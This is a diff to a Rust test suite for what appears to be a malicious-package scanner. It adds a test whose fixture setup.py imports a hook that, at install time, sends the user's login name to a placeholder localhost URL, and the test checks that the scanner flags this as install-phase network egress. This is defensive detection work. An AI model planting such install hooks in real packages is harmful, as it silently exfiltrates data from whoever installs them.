@@ -176,3 +176,17 @@ fn an_autostart_agent_written_made_executable_and_loaded_at_import_is_malicious(
     let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", &cli)]);
     assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
 }
+
+#[test]
+fn a_src_layout_package_that_setup_py_imports_runs_at_install() {
+    // hooktest3 0.1.1: setup.py puts src/ on sys.path and imports the package.
+    let setup = "import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'src'))\nfrom setuptools import setup\nfrom pkg import hook\nhook()\nsetup(name='pkg')\n";
+    let init = "import getpass, urllib.request\ndef hook():\n    urllib.request.urlopen('http://127.0.0.1:9/?u=' + getpass.getuser())\n";
+    let r = sdist(&[("setup.py", setup), ("src/pkg/__init__.py", init)]);
+    assert!(
+        has(&r, "custody::network-egress", Phase::Install),
+        "{:#?}",
+        r.findings
+    );
+    assert_eq!(r.verdict, Verdict::Malicious);
+}
